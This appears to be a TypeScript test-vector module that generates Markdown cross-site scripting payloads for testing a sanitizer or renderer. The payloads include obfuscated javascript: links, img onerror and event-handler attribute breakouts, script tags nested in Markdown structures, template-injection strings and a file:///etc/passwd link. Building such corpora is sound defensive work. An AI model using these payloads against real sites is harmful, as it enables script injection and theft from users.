import { FOREIGN, SCRIPT } from './vector.ts';
import type { Attempt } from './vector.ts';

const S = SCRIPT;
const IMG = `<img src=x: onerror=${S}>`;

const ADDRESSES = [
  `javascript:${S}`,
  `JaVaScRiPt:${S}`,
  `java&#115;cript:${S}`,
  `javascript&colon;${S}`,
  `java&Tab;script:${S}`,
  `\\javascript:${S}`,
  `<javascript:${S}>`,
  `<java\tscript:${S}>`,
  `javascript&#x3a;${S}`,
  `vbscript:${S}`,
  `data:text/html,<script>${S}</script>`,
  `<data:text/html,%3Cscript%3E${S}%3C/script%3E>`,
  `&#1;javascript:${S}`,
  `file:///etc/passwd`,
  `//foreign.test/x`,
];

const BLOCKS: readonly string[] = [
  `<javascript:${S}>`,
  `[word][r]\n\n[r]: javascript:${S}`,
  `[word][r]\n\n[r]: <javascript:${S}> "title"`,
  `![word][r]\n\n[r]: ${FOREIGN}/ref.png`,
  `![word](${FOREIGN}/direct.png "${IMG.replaceAll('"', '')}")`,
  `![${IMG}](${FOREIGN}/alt.png)`,
  `[word](http://a.test "x" onmouseover="${S}")`,
  `[word](http://a.test '" onmouseover="${S}')`,
  `[word](http://a.test/"onmouseover="${S})`,
  `[${IMG}](http://a.test)`,
  `[a](javascript:${S}//[b](http://a.test))`,
  `word ${IMG} word`,
  `word <img src=x:\nonerror=${S}> word`,
  `* ${IMG}\n* <script>${S}</script>`,
  `> ${IMG}`,
  `# ${IMG}\n\n## <script>${S}</script>`,
  `| a | b |\n| - | - |\n| ${IMG} | <script>${S}</script> |`,
  `word[^"><script>${S}</script>]\n\n[^"><script>${S}</script>]: ${IMG}`,
  `word[^n]\n\n[^n]: [back](javascript:${S}) ${IMG}`,
  `\`\`\`"><script>${S}</script>\nword\n\`\`\`\n${IMG}`,
  `~~~ "onmouseover="${S}\nword\n~~~\n\n${IMG}`,
  `- [ ] ${IMG}\n- [x] <input onfocus=${S} autofocus>`,
  `<details open ontoggle=${S}><summary>word</summary>\n\n${IMG}\n\n</details>`,
  `<div markdown="1" onclick=${S}>\n\n[word](javascript:${S})\n\n</div>`,
  `<!-- -->${IMG}<!-- -->`,
  `<!--\n\n-->${IMG}`,
  `<script>\n\n${S}\n\n</script>`,
  `<style>\n\n@import url(${FOREIGN}/md.css);\n\n</style>`,
  `<svg>\n\n<style>\n\n${IMG}\n\n</style>`,
  `<textarea>\n\n</textarea>${IMG}`,
  `<p title="\n\n${IMG}\n\n">`,
  `\\<img src=x: onerror=${S}> &lt;img&gt; ${IMG}`,
  `<a href="javascript:${S}">**word**</a>`,
  `[[javascript:${S}|word]] ![[${FOREIGN}/embed.png]] ${IMG}`,
  `{{ constructor.constructor("${S}")() }} {% raw %} <%= 7*7 %> \${7*7} ${IMG}`,
  `$\\href{javascript:${S}}{x}$ $$\\unicode{<img src=x: onerror=${S}>}$$ ${IMG}`,
  `:::note{onclick="${S}"}\nword\n:::\n\n${IMG}`,
  `## word {#x onclick=${S}}\n\n${IMG}`,
  `https://a.test/"onmouseover="${S} www.a.test/<script>${S}</script>`,
  `${'['.repeat(60)}word${`](javascript:${S})`.repeat(60)}`,
];

/** Links, pictures, references and raw markup as Markdown writes them. */
export function markdown(): readonly Attempt[] {
  const own = (family: string, name: string, payload: string): Attempt => ({
    family,
    name,
    place: 'body',
    payload,
    carriers: ['markdown'],
  });
  return [
    ...ADDRESSES.map((url, index) => own('markdown link', `link ${index + 1}`, `[word](${url})`)),
    ...ADDRESSES.map((url, index) =>
      own('markdown picture', `picture ${index + 1}`, `![word](${url})\n\n[word](${url})`),
    ),
    ...BLOCKS.map((payload, index) => own('markdown', `block ${index + 1}`, payload)),
  ];
}
